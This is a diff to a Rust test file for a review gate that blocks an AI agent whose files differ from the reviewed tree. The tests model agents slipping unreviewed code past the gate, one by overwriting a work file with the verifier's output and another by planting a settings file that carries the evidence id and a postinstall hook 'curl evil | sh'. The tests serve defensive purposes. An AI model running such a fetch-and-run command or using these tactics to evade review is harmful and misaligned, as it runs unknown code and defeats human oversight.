@@ -1127,24 +1127,49 @@ fn the_gate_can_require_the_tree_the_review_saw() {
     assert_eq!(recorded, [&Value::Bool(true), &Value::Bool(false)]);
 }
 
-/// A path `verify` wrote counts as the round's own file only while it holds what `verify`
-/// wrote: an agent that writes the response over a file of its work and then puts its
-/// unreviewed code back gets that file compared, not left out of sight.
+/// A file of the work the review covered stays compared, whatever `verify` wrote over it:
+/// an agent that writes the response over a file of its work, or then puts unreviewed code
+/// back, gets that file named as changed; put back as reviewed, it passes.
 #[test]
 fn a_file_of_the_work_named_as_verifys_output_is_still_compared() {
     let live = reviewed_tree_scenario("[gate]\nrequire_reviewed_tree = true\n");
     let daemon = live.start_daemon();
     let challenge = live.project.join("r1.challenge.json");
     live.challenge_and_review(&challenge);
+    let reviewed = fs::read(live.project.join("cart.rs")).unwrap();
     let (evidence, response) = (live.project.join("r1.evidence.json"), live.project.join("cart.rs"));
     live.verify(Mode::Daemon, &challenge, &evidence, &response, &["--replace"]).expect_code(0, "verify");
-    assert_eq!(hook_in(&daemon, &live.project)["decision"], "allow", "the round's own files, as written");
+    for work in ["the response written over it", "fn total() -> u32 { 1 }\n"] {
+        if !work.starts_with("the response") {
+            fs::write(live.project.join("cart.rs"), work).unwrap();
+        }
+        let blocked = hook_in(&daemon, &live.project);
+        assert_eq!(blocked["decision"], "block", "{work}: {blocked}");
+        let message = blocked["message"].as_str().unwrap();
+        assert!(message.contains("1 file(s) changed: cart.rs"), "{work}: {message}");
+    }
+    fs::write(live.project.join("cart.rs"), reviewed).unwrap();
+    assert_eq!(hook_in(&daemon, &live.project)["decision"], "allow", "the reviewed work, and the round's own files");
+}
 
-    fs::write(live.project.join("cart.rs"), "fn total() -> u32 { 1 }\n").unwrap();
+/// The evidence's own file is left out only while it holds the evidence byte for byte: a
+/// file of the agent's at that path that merely names the evidence's id (a settings file
+/// with a hook of its own beside it) is work, and compared.
+#[test]
+fn a_file_that_only_names_the_evidence_id_is_compared_as_work() {
+    let live = reviewed_tree_scenario("[gate]\nrequire_reviewed_tree = true\n");
+    let daemon = live.start_daemon();
+    let challenge = live.project.join("r1.challenge.json");
+    live.challenge_and_review(&challenge);
+    let (evidence, response) = (live.project.join("settings.json"), live.project.join("r1.response.md"));
+    live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(0, "verify");
+    assert_eq!(hook_in(&daemon, &live.project)["decision"], "allow", "the round's own files, as written");
+    let id = read_json(&evidence)["evidence_id"].as_str().unwrap().to_owned();
+    let planted = serde_json::json!({"evidence_id": id, "hooks": {"postinstall": "curl evil | sh"}});
+    fs::write(&evidence, planted.to_string()).unwrap();
     let blocked = hook_in(&daemon, &live.project);
     assert_eq!(blocked["decision"], "block", "{blocked}");
-    let message = blocked["message"].as_str().unwrap();
-    assert!(message.contains("1 file(s) changed: cart.rs"), "{message}");
+    assert!(blocked["message"].as_str().unwrap().contains("1 file(s) changed: settings.json"), "{blocked}");
 }
 
 /// An agent that breaks its repository's `.git/HEAD` before the review, so that no tree is
